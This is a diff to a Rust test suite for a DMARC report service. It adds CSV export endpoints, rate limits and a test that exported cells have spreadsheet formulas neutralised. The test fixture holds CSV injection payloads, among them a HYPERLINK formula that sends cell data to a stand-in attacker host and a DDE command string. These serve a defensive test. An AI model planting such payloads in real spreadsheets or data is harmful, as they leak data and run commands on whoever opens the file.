@@ -508,6 +508,9 @@ async fn rbac_matrix_over_every_endpoint() {
         get("/api/reports", read),
         get(&format!("/api/reports/{report_id}"), read),
         get("/api/reports/999999", [401, 404, 404, 404, 404]),
+        get("/api/export/reports/csv", [401, 403, 200, 200, 200]),
+        get("/api/export/records/csv", [401, 403, 200, 200, 200]),
+        get("/api/export/sources/csv", [401, 403, 200, 200, 200]),
         get("/health", [200; 5]),
         get("/metrics", admin_only),
     ];
@@ -655,6 +658,7 @@ async fn uploading_the_corpus_in_one_request() {
 #[tokio::test]
 async fn limits_answer_with_clear_statuses() {
     let server = start(testing::sqlite(), |c| {
+        c.limits.csv_exports_per_minute = 2;
         c.auth.login_attempts_per_minute = 3;
         c.limits.upload_max_files = 2;
         c.limits.upload_max_file_bytes = 4096;
@@ -707,6 +711,17 @@ async fn limits_answer_with_clear_statuses() {
         .await;
     assert_eq!(too_big.status, StatusCode::PAYLOAD_TOO_LARGE);
 
+    // CSV exports: 2 per minute here.
+    for expected in [200, 200, 429] {
+        let got = server
+            .call(Method::GET, "/api/export/sources/csv", &access, None)
+            .await;
+        assert_eq!(got.status.as_u16(), expected);
+        if expected == 429 {
+            assert!(got.headers.contains_key("retry-after"));
+        }
+    }
+
     // Bad filters name the parameter.
     let bad = server
         .call(
@@ -743,4 +758,122 @@ async fn responses_carry_request_ids_and_security_headers() {
     let missing = server.call(Method::GET, "/nope", &Auth::None, None).await;
     assert_eq!(missing.status, StatusCode::NOT_FOUND);
     assert_eq!(missing.body["error"]["code"], "not_found");
+}
+
+/// A report whose strings are spreadsheet formulas.
+const CRAFTED: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
+<feedback>
+  <report_metadata>
+    <org_name>=HYPERLINK("http://evil.example/?"&amp;A1,"click")</org_name>
+    <email>-2+3@evil.example</email>
+    <report_id>@SUM(1+1)</report_id>
+    <date_range><begin>1714521600</begin><end>1714607999</end></date_range>
+  </report_metadata>
+  <policy_published><domain>example.com</domain><p>reject</p></policy_published>
+  <record>
+    <row>
+      <source_ip>192.0.2.1</source_ip>
+      <count>7</count>
+      <policy_evaluated><disposition>reject</disposition><dkim>fail</dkim><spf>fail</spf></policy_evaluated>
+    </row>
+    <identifiers><header_from>+cmd|' /C calc'!A0</header_from><envelope_from>-1+2.example</envelope_from></identifiers>
+    <auth_results><spf><domain>x.example</domain><result>fail</result></spf></auth_results>
+  </record>
+</feedback>"#;
+
+async fn csv_text(server: &Server, auth: &Auth, path: &str) -> (Answer, String) {
+    let response = server
+        .http
+        .get(format!("{}{path}", server.base))
+        .bearer_auth(match auth {
+            Auth::Bearer(t) => t.clone(),
+            _ => String::new(),
+        })
+        .send()
+        .await
+        .expect("send");
+    let status = response.status();
+    let headers = response.headers().clone();
+    let text = response.text().await.expect("body");
+    (
+        Answer {
+            status,
+            headers,
+            body: Value::Null,
+        },
+        text,
+    )
+}
+
+#[tokio::test]
+async fn csv_exports_neutralise_formulas_and_follow_filters() {
+    let server = sqlite_server().await;
+    server.user("x@example.com", Role::Analyst).await;
+    let access = Auth::Bearer(server.tokens("x@example.com").await.0);
+    let dir = tempfile::tempdir().unwrap();
+    let crafted = dir.path().join("crafted.xml");
+    std::fs::write(&crafted, CRAFTED).unwrap();
+    let upload = server.upload(&access, &[crafted, one_report()]).await;
+    assert_eq!(upload.body["summary"]["accepted"], 2, "{}", upload.body);
+
+    let (answer, records) = csv_text(
+        &server,
+        &access,
+        "/api/export/records/csv?domain=example.com",
+    )
+    .await;
+    assert_eq!(answer.status, StatusCode::OK);
+    assert!(
+        answer.headers["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/csv")
+    );
+    assert!(
+        answer.headers["content-disposition"]
+            .to_str()
+            .unwrap()
+            .contains("dmarc-records.csv")
+    );
+    let mut reader = csv::Reader::from_reader(records.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    assert_eq!(rows.len(), 1, "only the crafted report's domain: {records}");
+    let cell = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_owned();
+    assert_eq!(
+        cell("org_name"),
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    );
+    assert_eq!(cell("report_id"), "'@SUM(1+1)");
+    assert_eq!(cell("header_from"), "'+cmd|' /C calc'!A0");
+    // (Tab and CR first are covered by the unit test: the parser trims them from values.)
+    assert_eq!(cell("envelope_from"), "'-1+2.example");
+    assert_eq!(cell("count"), "7");
+    assert_eq!(cell("begin"), "2024-05-01T00:00:00Z");
+    for row in &rows {
+        for value in row {
+            assert!(
+                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{value:?}"
+            );
+        }
+    }
+
+    let (_, reports) = csv_text(&server, &access, "/api/export/reports/csv").await;
+    assert_eq!(
+        reports.lines().count(),
+        3,
+        "header and two reports: {reports}"
+    );
+    assert!(reports.contains("'=HYPERLINK"));
+    let (_, sources) = csv_text(
+        &server,
+        &access,
+        "/api/export/sources/csv?dkim=fail&spf=fail",
+    )
+    .await;
+    assert!(
+        sources.lines().any(|l| l.starts_with("192.0.2.1,7,0,7,")),
+        "{sources}"
+    );
 }
